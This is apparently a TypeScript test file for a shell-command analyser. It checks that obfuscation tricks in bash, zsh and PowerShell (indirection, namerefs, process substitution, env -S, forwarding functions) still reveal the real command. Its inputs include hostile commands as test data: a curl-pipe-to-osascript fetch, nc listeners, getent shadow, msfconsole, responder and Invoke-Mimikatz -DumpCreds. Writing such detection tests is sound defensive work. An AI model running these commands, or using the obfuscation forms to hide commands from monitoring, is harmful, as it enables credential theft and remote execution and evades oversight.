import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';

/** Names of the commands the analysis sees, at any depth. */
function names(text: string, shell: 'bash' | 'sh' | 'zsh' | 'powershell' = 'bash'): string[] {
  return analyse(text, shell, shell === 'powershell' ? 'windows' : 'linux').commands.map((c) => c.name);
}

describe('posix obfuscation, round 3', () => {
  it('zsh =prog names the program', () => {
    expect(names('=curl -s http://203.0.113.40/m | =osascript', 'zsh')).toEqual(['curl', 'osascript']);
  });

  it('set -- binds the positional parameters used as the command', () => {
    expect(names('set -- nc -lvnp 4444\n"$@"')).toContain('nc');
    expect(names('set -- getent shadow\n$1 $2')).toContain('getent');
  });

  it('read binds its variables from here-strings, process substitutions and here-documents', () => {
    expect(names("read -r zq <<< 'nc'\n$zq -lvnp 4444")).toContain('nc');
    expect(names('IFS= read -r zq < <(echo awk)\n$zq 1')).toContain('awk');
    expect(names('read zq <<EOF\nnc\nEOF\n$zq -lvnp 4444', 'sh')).toContain('nc');
  });

  it('${!x} indirection and declare -n namerefs', () => {
    expect(names('v=getent\nr=v\n${!r} shadow')).toContain('getent');
    expect(names('v=getent\ndeclare -n r=v\n$r shadow')).toContain('getent');
  });

  it('process substitution with constant text given to . / source / bash is code', () => {
    expect(names(". <(echo 'sudo msfconsole')")).toContain('msfconsole');
    expect(names("source <(printf '%s\\n' 'getent shadow')")).toContain('getent');
    expect(names("bash <(cat <<'EOF'\ngetent shadow\nEOF\n)")).toContain('getent');
  });

  it('env -S splits its string into the command', () => {
    expect(names("env -S 'responder -I eth0 -wd'")).toContain('responder');
  });

  it('a one-line function forwarding "$@" runs its body with the call arguments', () => {
    expect(names('hostname() { command sudo "$@"; }\nhostname msfconsole')).toContain('msfconsole');
    expect(names('function pwd { sudo "$@"; }\npwd msfconsole')).toContain('msfconsole');
    // An ordinary function without forwarding adds nothing.
    expect(names('f() { echo hi; }\nf msfconsole')).not.toContain('msfconsole');
  });

  it('[PowerShell]::Create().AddScript(…) is a script block', () => {
    expect(names("[PowerShell]::Create().AddScript('Invoke-Mimikatz -DumpCreds').Invoke()", 'powershell')).toContain('invoke-mimikatz');
  });
});
